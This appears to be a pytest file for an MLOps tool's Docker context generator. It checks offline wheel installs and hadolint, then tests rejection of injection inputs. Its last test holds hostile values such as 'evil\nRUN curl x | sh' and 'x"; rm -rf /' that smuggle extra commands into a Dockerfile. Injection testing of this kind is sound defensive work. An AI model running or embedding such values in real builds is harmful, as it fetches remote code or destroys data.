"""`deploy docker` builds a context that really installs: the image's own install line, run in a fresh virtual
environment with nothing but the context (no index, no other find-links), installs this conveyor from the shipped
wheel at the locked package versions; and the Dockerfile passes hadolint."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from sklearn.linear_model import LogisticRegression

import conveyor
from conveyor.core.errors import BadInputError
from conveyor.registry.models import register_model
from conveyor.serve.deploy import docker_context

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def context(tmp_path_factory):
    from conveyor.store import Stores

    stores = Stores.in_memory()
    X = pd.DataFrame({"a": np.arange(30.0), "b": np.arange(30.0) % 4})
    register_model(stores, LogisticRegression().fit(X, X["a"] > 14), "churn", input_example=X.head())
    out = tmp_path_factory.mktemp("img") / "ctx"
    summary = docker_context(stores, "churn:1", out)
    return out, summary


def _tool(name: str) -> str:
    found = shutil.which(name) or shutil.which(name, path=str(Path(sys.executable).parent))
    assert found, f"{name} is installed by scripts/test.sh"
    return found


def test_the_dockerfile_passes_hadolint(context):
    out, _ = context
    done = subprocess.run([_tool("hadolint"), str(out / "Dockerfile")], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stdout + done.stderr


def _overlay(root: Path) -> Path:
    """This environment's installed packages, conveyor's own left out, as a folder a fresh venv can see: pip then
    finds the locked packages already there, and conveyor must come from the context's wheel."""
    overlay = root / "overlay"
    overlay.mkdir()
    for entry in Path(sysconfig.get_paths()["purelib"]).iterdir():
        name = entry.name.lower()
        if name.startswith(("conveyor", "__editable__", "_conveyor")) or name.endswith(".pth"):
            continue
        (overlay / entry.name).symlink_to(entry)
    return overlay


def test_the_images_install_line_installs_from_the_context_alone(context, tmp_path):
    out, summary = context
    assert sorted(p.name for p in (out / "wheels").iterdir()) == [summary["wheel"]]
    lock = (out / "requirements.lock").read_text().split()
    assert f"numpy=={np.__version__}" in lock and not any(line.startswith("conveyor") for line in lock)
    dockerfile = (out / "Dockerfile").read_text()
    line = re.search(r"^RUN (pip install [^\n]*?) \\$", dockerfile, re.M)
    assert line is not None and line[1] == summary["install_line"] and "--no-index" in line[1]
    fresh = tmp_path / "fresh"
    subprocess.run([sys.executable, "-m", "venv", str(fresh)], check=True, timeout=300)
    site = next((fresh / "lib").glob("python*/site-packages"))
    (site / "zz_overlay.pth").write_text(str(_overlay(tmp_path)) + "\n")
    command = (line[1].replace("/tmp/wheels", str(out / "wheels"))
               .replace("/tmp/requirements.lock", str(out / "requirements.lock"))
               .replace("pip install", f"{fresh / 'bin' / 'python'} -m pip install", 1))
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "PYTHON"))}
    env.update(PIP_CONFIG_FILE=os.devnull, PIP_DISABLE_PIP_VERSION_CHECK="1")
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=600, env=env)
    assert done.returncode == 0, done.stdout + done.stderr
    check = subprocess.run([str(fresh / "bin" / "python"), "-c",
                            "import conveyor, importlib.metadata as m; print(conveyor.__file__); "
                            "print(m.version('conveyor-mlops'))"], capture_output=True, text=True, timeout=120,
                           env=env)
    where, version = check.stdout.split()
    assert Path(where).is_relative_to(site) and version == conveyor.__version__
    cli = subprocess.run([str(fresh / "bin" / "conveyor"), "--version"], capture_output=True, text=True, timeout=60,
                         env=env)
    assert cli.stdout.strip() == f"conveyor {conveyor.__version__}"


@pytest.mark.parametrize(("option", "value"), [("image", "evil\nRUN curl x | sh"), ("spec", 'x"; rm -rf /'),
                                               ("spec", "conveyor-mlops==1\nRUN id")])
def test_options_cannot_inject_lines(tmp_path, option, value):
    from conveyor.store import Stores

    stores = Stores.in_memory()
    X = pd.DataFrame({"a": np.arange(10.0)})
    register_model(stores, LogisticRegression().fit(X, X["a"] > 4), "m", input_example=X.head())
    with pytest.raises(BadInputError, match=f"--{option} must be"):
        docker_context(stores, "m:1", tmp_path / "ctx", **{option: value})
    assert not (tmp_path / "ctx").exists()
